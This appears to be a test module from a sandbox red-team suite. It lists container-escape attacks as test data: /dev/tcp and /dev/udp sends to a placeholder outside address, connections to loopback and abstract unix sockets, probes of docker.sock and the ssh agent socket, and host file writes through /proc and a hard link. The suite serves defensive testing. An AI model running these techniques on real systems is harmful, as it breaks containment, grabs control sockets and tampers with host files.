"""Attacks that talk to or change the host."""

from tests.redteam import undefended
from tests.redteam.attacks.attack import Attack
from tests.redteam.world import Harm

REACHING = (
    Attack(
        "host's loopback",
        "talks to a service on the host's loopback",
        Harm.REACH,
        'exec 3<>"/dev/tcp/127.0.0.1/$LOOPBACK_PORT" && echo "$SHOUT" >&3',
        undefended.host_shell,
    ),
    Attack(
        "outside address",
        "sends what it knows over the network",
        Harm.REACH,
        """
        exec 3<>"/dev/tcp/$ADDRESS/$OUTER_PORT" && echo "$SHOUT" >&3
        exec 4<>"/dev/udp/$ADDRESS/$DATAGRAM_PORT" && echo "$SHOUT" >&4
        """,
        undefended.host_shell,
    ),
    Attack(
        "abstract socket",
        "talks to an abstract unix socket, which no mount hides",
        Harm.REACH,
        """
        python3 - <<'END'
import os, socket
with socket.socket(socket.AF_UNIX) as one:
    one.connect("\\0" + os.environ["ABSTRACT"])
    one.send(os.environ["SHOUT"].encode())
END
        """,
        undefended.host_shell,
    ),
    Attack(
        "docker's and the ssh agent's sockets",
        "talks to sockets that give full control to everyone who reaches them",
        Harm.REACH,
        """
        python3 - <<'END'
import os, socket
for place in (os.environ["HOST"], "/proc/1/root" + os.environ["HOST"], "/var/run"):
    for name in ("docker.sock", "agent.sock"):
        try:
            with socket.socket(socket.AF_UNIX) as one:
                one.connect(f"{place}/{name}")
                one.send(os.environ["SHOUT"].encode())
                if place == "/var/run":
                    print("GAINED", name)
        except OSError as error:
            print(error)
        if place == os.environ["HOST"] and "UNDEFENDED" in os.environ:
            raise SystemExit
END
        """,
        undefended.host_shell,
    ),
    Attack(
        "host files written",
        "changes a file of the host, by its path, through /proc and by a hard link",
        Harm.TAMPER,
        """
        for p in "" /proc/1/root /proc/$PPID/root "/proc/$PARENT/root"; do echo changed > "$p$HOST/notes.txt"; done
        ln "$HOST/notes.txt" link && echo changed > link
        """,
        undefended.host_shell,
    ),
)
